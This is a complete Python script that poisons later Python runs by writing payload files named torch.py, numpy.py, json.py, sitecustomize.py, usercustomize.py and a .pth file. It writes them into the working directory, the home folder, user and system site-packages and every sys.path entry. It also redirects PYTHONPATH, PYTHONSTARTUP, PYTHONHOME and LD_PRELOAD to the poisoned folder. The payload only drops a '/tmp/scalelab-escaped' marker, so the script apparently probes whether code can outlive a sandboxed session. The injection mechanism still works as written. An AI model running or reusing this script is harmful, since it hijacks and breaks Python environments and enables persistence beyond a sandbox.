"""Lays modules and start-up files wherever a Python that comes later may pick them up."""

import os
import sys
from pathlib import Path

POISON = "import pathlib; pathlib.Path('/tmp/scalelab-escaped').write_text('ran')\n"
names = ("torch.py", "scalelab.py", "numpy.py", "json.py", "sitecustomize.py", "usercustomize.py", "poison.pth")
home = Path(os.environ["HOME"])
version = f"python{sys.version_info.major}.{sys.version_info.minor}"
site = home / ".local" / "lib" / version / "site-packages"
for place in (Path("out"), Path(), home, site, Path(sys.prefix) / "lib" / version / "site-packages", *map(Path, sys.path)):
    for name in names:
        try:
            place.mkdir(parents=True, exist_ok=True)
            (place / name).write_text(POISON)
        except OSError:
            continue
for name in ("PYTHONPATH", "PYTHONSTARTUP", "PYTHONHOME", "PYTHONINSPECT", "LD_PRELOAD", "LD_LIBRARY_PATH"):
    os.environ[name] = str(Path("out").resolve())
print("poison is in", sum(path.suffix in (".py", ".pth") for path in Path("out").iterdir()), "files")
